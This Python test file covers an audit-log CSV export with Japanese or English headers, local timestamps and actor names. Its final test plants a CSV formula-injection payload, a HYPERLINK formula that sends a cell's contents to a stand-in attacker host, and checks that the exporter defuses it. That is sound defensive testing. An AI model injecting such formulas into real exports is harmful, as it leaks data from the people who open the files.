"""The audit CSV a records officer opens: Japanese headers (English with --lang en), local times, names, no JSON."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import app
from core import i18n
from core.audit import chain
from core.runtime.bootstrap import Environment
from core.services.audit_export import export_csv
from tests.support.world import World


def _rows(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    return list(csv.reader(raw.decode("utf-8-sig").splitlines()))


def test_the_csv_opens_with_japanese_headers_local_times_and_names(world: World, tmp_path: Path) -> None:
    world.submitted(world.op1, "市民まつりのお知らせ")
    i18n.set_language("ja")
    out = tmp_path / "out" / "audit.csv"
    count = export_csv(world.store, out)
    rows = _rows(out)
    assert len(rows) == count + 1
    header = rows[0]
    assert header[:6] == ["番号", "日時", "実施者", "端末", "出来事", "概要"]
    assert "下書き" in header
    assert all(re.fullmatch(r"[^\x00-\x7f]+", cell) or cell == "URL" for cell in header), header
    assert not any(cell.lstrip().startswith("{") for row in rows[1:] for cell in row)  # no JSON column
    submitted = next(row for row in rows if row[4] == "承認申請")
    # Local time to the second with the zone offset, never UTC ISO with microseconds.
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} [+-]\d{2}:\d{2}", submitted[1])
    assert submitted[2] == "佐藤 花子 (sato)"
    assert submitted[header.index("下書き")]
    assert list(out.parent.glob(".audit-*")) == []


def test_english_with_lang_en(env: Environment, data_dir: Path, db_url: str, tmp_path: Path) -> None:
    with env.store.write() as session:
        chain.append(session, chain.Recorder("someone", "t"), "test.event", {"reason": "市民まつり"})
    out = tmp_path / "a.csv"
    argv = ["--lang", "en", "--data-dir", str(data_dir), "--database-url", db_url, "audit", "export", "--out", str(out)]
    assert app.main(argv) == 0
    rows = _rows(out)
    assert rows[0][:5] == ["No.", "Time", "Person", "Terminal", "Event"]
    assert rows[-1][rows[0].index("Reason")] == "市民まつり"


def test_export_never_hands_excel_a_formula(env: Environment, tmp_path: Path) -> None:
    hostile = chain.Recorder(actor='=HYPERLINK("http://evil.example/?"&A1,"click")', terminal="@SUM(1)")
    with env.store.write() as session:
        chain.append(session, hostile, "test.event", {"i": 1})
    out = tmp_path / "audit.csv"
    export_csv(env.store, out)
    row = _rows(out)[-1]
    assert row[2] == "'" + hostile.actor
    assert row[3] == "'@SUM(1)"
